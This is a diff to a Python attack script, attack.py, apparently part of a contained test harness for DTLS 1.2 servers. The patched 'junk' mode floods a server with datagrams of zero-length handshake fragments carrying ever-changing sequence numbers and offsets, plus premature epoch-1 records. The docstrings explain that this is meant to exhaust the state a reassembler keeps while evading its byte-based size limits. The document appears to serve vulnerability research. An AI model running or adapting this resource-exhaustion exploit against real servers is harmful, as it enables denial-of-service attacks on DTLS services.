@@ -64,12 +64,15 @@ network namespace (root needed for raw and packet sockets); it never sends anywh
       and exits 0 if every handshake got proven.
 
   attack.py junk --dst IP --port P --hello FILE --src IP --count N --size B --rate R
+                 [--zero-frags Z] [--zero-last M]
       One socket from --src proves its address as `stall` does (ClientHello, echoed cookie,
-      the server's flight), then sends N datagrams of about B bytes at R a second, each
-      made of epoch-0 handshake records full of zero-length handshake fragments (12-byte
-      headers with fragment_length 0 and ever new message_seq and fragment_offset values:
-      nothing to reassemble, everything to keep) and one epoch-1 handshake record of random
-      bytes (a Finished before any ClientKeyExchange). Prints "proven" once the flight came,
+      the server's flight), then sends N datagrams of about B bytes at R a second. The last
+      M (all by default) begin with epoch-0 handshake records holding Z zero-length handshake
+      fragments (12-byte headers with length and fragment_length 0 and ever new message_seq
+      and fragment_offset values: nothing to reassemble, everything to keep, and each new one
+      makes a reassembler that sums what it keeps do more work); every datagram is filled up
+      to B with epoch-1 handshake records of random bytes (a Finished before any
+      ClientKeyExchange, which a server that queues next-epoch records keeps whole). Prints "proven" once the flight came,
       then "sent junk=N bytes=M in T ms" and exits 0.
 
 Python standard library only; shares the capture and raw-packet helpers of inject.py.
@@ -557,13 +560,16 @@ def stall(args):
 
 
 def zero_fragments(first_seq, count, typ):
-    """`count` handshake headers with fragment_length 0, message_seq from `first_seq` on, each
-    with its own fragment_offset and a large declared length."""
+    """`count` handshake headers of zero length (length 0, fragment_length 0, no body), each
+    with its own message_seq from `first_seq` on (3 and up: past the ClientHellos' and never
+    the one a server waits for next) and its own nonzero fragment_offset. A reassembler that
+    keeps every fragment it has not used keeps a header's worth of state for each of them,
+    and its size limits, which count fragment bytes, count nothing."""
     out = bytearray()
     for j in range(count):
         seq = first_seq + j
-        out += bytes([typ]) + (0xFFFF).to_bytes(3, "big") + struct.pack("!H", 2 + seq % 0xFFF0)
-        out += ((seq * 7) % 0xFFFF).to_bytes(3, "big") + b"\0\0\0"
+        out += bytes([typ]) + b"\0\0\0" + struct.pack("!H", 3 + seq % 0xFFF0)
+        out += (1 + (seq * 7) % 0xFFFF).to_bytes(3, "big") + b"\0\0\0"
     return bytes(out)
 
 
@@ -580,8 +586,9 @@ def junk(args):
         return 1
     s.setblocking(True)
     print(f"proven from {s.getsockname()[0]}:{s.getsockname()[1]}", flush=True)
+    if args.zero_last is None:
+        args.zero_last = args.count
     per_record = 116  # 1392 bytes of headers: a record fits one 1500-byte IP packet
-    records = max(1, (args.size - 200) // (RECORD_HEADER_LEN + per_record * HS_HEADER))
     rseq, mseq, sent_bytes = 2, 0, 0
     started = time.monotonic()
     for i in range(args.count):
@@ -590,12 +597,21 @@ def junk(args):
             if ahead > 0:
                 time.sleep(ahead)
         dg = bytearray()
-        for r in range(records):
-            typ = [16, 20, 1, 11][r % 4]
-            dg += record(CONTENT_HANDSHAKE, DTLS12, 0, rseq, zero_fragments(mseq, per_record, typ))
-            rseq += 1
-            mseq += per_record
-        dg += record(CONTENT_HANDSHAKE, DTLS12, 1, i, os.urandom(args.size - len(dg) - RECORD_HEADER_LEN))
+        left, r = (args.zero_frags if i >= args.count - args.zero_last else 0), 0
+        while left > 0:
+            n = min(left, per_record)
+            typ = [20, 11, 15, 0][r % 4]
+            dg += record(CONTENT_HANDSHAKE, DTLS12, 0, rseq, zero_fragments(mseq, n, typ))
+            rseq, mseq, left, r = rseq + 1, mseq + n, left - n, r + 1
+        # The rest: epoch-1 handshake records (a Finished before any key exchange), each of
+        # at most 1400 bytes, at least one.
+        eseq = i * 16
+        while True:
+            room = args.size - len(dg) - RECORD_HEADER_LEN
+            dg += record(CONTENT_HANDSHAKE, DTLS12, 1, eseq, os.urandom(max(48, min(room, 1400))))
+            eseq += 1
+            if args.size - len(dg) <= RECORD_HEADER_LEN + 48:
+                break
         try:
             s.sendto(dg, dst)
         except OSError:
@@ -661,6 +677,8 @@ def main():
     j.add_argument("--count", type=int, required=True)
     j.add_argument("--size", type=int, required=True)
     j.add_argument("--rate", type=float, required=True)
+    j.add_argument("--zero-frags", type=int, default=580)
+    j.add_argument("--zero-last", type=int, default=None)
     args = ap.parse_args()
     modes = {
         "catch-hello": catch_hello,
